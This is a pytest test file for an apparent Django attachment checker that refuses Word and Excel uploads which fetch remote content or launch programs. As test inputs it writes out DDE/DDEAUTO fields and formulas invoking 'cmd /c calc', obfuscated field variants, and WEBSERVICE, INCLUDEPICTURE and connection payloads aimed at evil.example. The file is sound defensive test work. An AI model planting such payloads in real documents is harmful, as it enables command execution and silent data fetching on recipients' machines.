"""An Office file fetches nothing and starts nothing: not by a field, a formula or a link to a programme either."""

from functools import partial

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from records.attachments import Refused, checked
from tests.records import papers
from tests.records.fetching import MC, S, excel, excel_naming, field, mark, run, simple, word

AWAY = "https://evil.example/x"
LINK = f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
OLE = f'<externalLink xmlns="{S}"><oleLink progId="Word.Document.12"/></externalLink>'
CONNECTION = (
    f'<connections xmlns="{S}"><connection id="1" name="q" type="4"><webPr url="{AWAY}"/></connection>'
    "</connections>"
)
QUERY = f'<queryTable xmlns="{S}" name="q" connectionId="1"/>'
IGNORED = (
    f'<mc:AlternateContent xmlns:mc="{MC}"><mc:Choice Requires="x">{run("PAGE ")}</mc:Choice>'
    "</mc:AlternateContent>"
)

FIELDS = {
    **{
        f"{name} in the text": (word, field(f' {name} "{AWAY}"'))
        for name in (
            "DDE",
            "DDEAUTO",
            "INCLUDEPICTURE",
            "INCLUDETEXT",
            "LINK",
            "DATABASE",
            "RD",
            "includepicture",
        )
    },
    "its letters in three runs": (word, field("D", "DEA", f"UTO c:\\cmd.exe {AWAY}")),
    "a comment between its letters": (word, field("DDE<!-- PAGE -->AUTO cmd")),
    "in one element": (word, simple(f"INCLUDEPICTURE {AWAY}")),
    "never shown": (word, mark("begin") + run("DDEAUTO cmd") + mark("end")),
    "within another": (word, field(" IF 1 = 1 ", field(f"INCLUDETEXT {AWAY}"), " x ")),
    "in what another shows": (word, field("PAGE", shows=field(f"INCLUDETEXT {AWAY}"))),
    "its name said by another": (word, field(field("QUOTE 68 68 69"), " cmd")),
    "its name ended by another": (word, field("DD", field("QUOTE 69"), " cmd")),
    "behind what Word leaves out": (word, field(IGNORED, "DDEAUTO cmd")),
    "letters that merge": (word, "<w:mailMerge/>"),
    **{
        f"in {part}": (partial(word, part=part), field(f"INCLUDEPICTURE {AWAY}"))
        for part in ("header1", "footer2", "footnotes", "endnotes", "comments", "glossary/document")
    },
    "in UTF-16": (partial(word, encoding="utf-16"), field(f"INCLUDEPICTURE {AWAY}")),
}
FORMULAS = {
    "a web service": f'_xlfn.WEBSERVICE("{AWAY}"&amp;A2)',
    "a web service in small letters": f'1+webservice ("{AWAY}")',
    "a web service spelled in codes": f'&#87;EBSERVICE("{AWAY}")',
    "a picture": f'_xlfn.IMAGE("{AWAY}")',
    "a server of live data": 'RTD("x",,"y")',
    "a programme": "cmd|'/c calc'!A0",
    "a cell of a file elsewhere": "'https://evil.example/[a.xlsx]Sheet1'!A1",
    "a cell of an open file": "[a.xlsx]Sheet1!A1",
    "a name of a file": "'C:\\\\a.xlsx'!x",
}
SOURCES = {
    "a link to a programme": {"externalLinks__externalLink1": LINK},
    "a link to an object": {"externalLinks__externalLink1": OLE},
    "a connection": {"connections": CONNECTION},
    "a table of a query": {"queryTables__queryTable1": QUERY},
}
HONEST = {
    "fields of Word": word(
        field(
            'TOC \\o "1-3" \\h',
            shows=field(' HYPERLINK \\l "_Toc1" ') + field("PAGEREF _Toc1 \\h") + simple("NUMPAGES"),
        )
        + field(f' HYPERLINK "{AWAY}/link" ')
        + field("=", field("PAGE"), "+1")
        + field(" IF", field("PAGE"), ' = 1 "LINK" "DDE"')
        + field("ADDIN ZOTERO_ITEM " + "x" * 100_000)
        + simple("SEQ 表 \\* ARABIC")
        + simple('DATE \\@ "yyyy年M月d日"')
    ),
    "a field in a box": word(f"<v:shape><v:textbox>{field('PAGE')}</v:textbox></v:shape>", part="header1"),
    "letters without a field": word("<w:r><w:t>INCLUDEPICTURE DDEAUTO</w:t></w:r>"),
    "a drawing with its type": papers.with_entries(
        papers.word(), {"word/media/image9.svg": b'<!DOCTYPE svg PUBLIC "a" "b"><svg><use></svg>'}
    ),
    "formulas of Excel": excel('IF(A2&gt;0,SUM(Sheet!A1:A9)&amp;"|"&amp;\'其他 表\'!B2,"[a]b!")'),
    "a link to follow": excel(f'HYPERLINK("{AWAY}","WEBSERVICE")'),
    "columns of a table": excel("表1[[#This Row],[金额]]*Sheet!B1/表1[数量]"),
    "a name": excel_naming("Sheet!$A$1:$B$9"),
    "old comments": papers.with_entries(
        papers.excel(), {"xl/drawings/vmlDrawing1.vml": b"<xml><div>a<br>b</div></xml>"}
    ),
}


def reason(data: bytes) -> tuple[str, str]:
    with pytest.raises(Refused) as refusal:
        checked(SimpleUploadedFile("附件.docx", data))
    return refusal.value.reason, str(refusal.value)


@pytest.mark.parametrize("name", FIELDS)
def test_a_field_that_fetches_is_refused(name):
    make, inside = FIELDS[name]
    assert reason(make(inside))[0] == "field"


def test_the_field_is_named():
    assert "“INCLUDEPICTURE”" in reason(word(field(" INCLUDE", "PICTURE x")))[1]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_that_fetches_is_refused(name):
    assert reason(excel(FORMULAS[name]))[0] == "data"


def test_a_formula_behind_a_name_is_refused():
    assert reason(excel_naming(FORMULAS["a web service"]))[0] == "data"


@pytest.mark.parametrize("name", SOURCES)
def test_a_workbook_with_a_source_elsewhere_is_refused(name):
    assert reason(excel(**SOURCES[name]))[0] == "data"


@pytest.mark.parametrize("kind", ["aFChunk", "webextensiontaskpanes"])
def test_what_word_takes_in_at_opening_is_refused_from_within_too(kind):
    data = papers.word_with("word/_rels/document2.xml.rels", kind, target="a.html", mode="Internal")
    assert reason(data)[0] == "linked"


def test_a_picture_of_an_old_drawing_is_not_fetched():
    assert reason(word(f'<w:pict><v:shape><v:imagedata src="{AWAY}"/></v:shape></w:pict>'))[0] == "linked"


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_is_taken(name):
    assert checked(SimpleUploadedFile("附件.docx", HONEST[name])).kind in ("docx", "xlsx")


def test_long_lists_are_looked_through_in_time():
    row = '<row><c t="str"><f>A1+1</f><v>姓名</v></c>' + "<c><v>1</v></c>" * 20 + "</row>"
    sheet = f'<worksheet xmlns="{S}"><sheetData>{row * 20_000}</sheetData></worksheet>'
    data = excel(worksheets__sheet1=sheet)
    assert checked(SimpleUploadedFile("名单.xlsx", data)).kind == "xlsx"
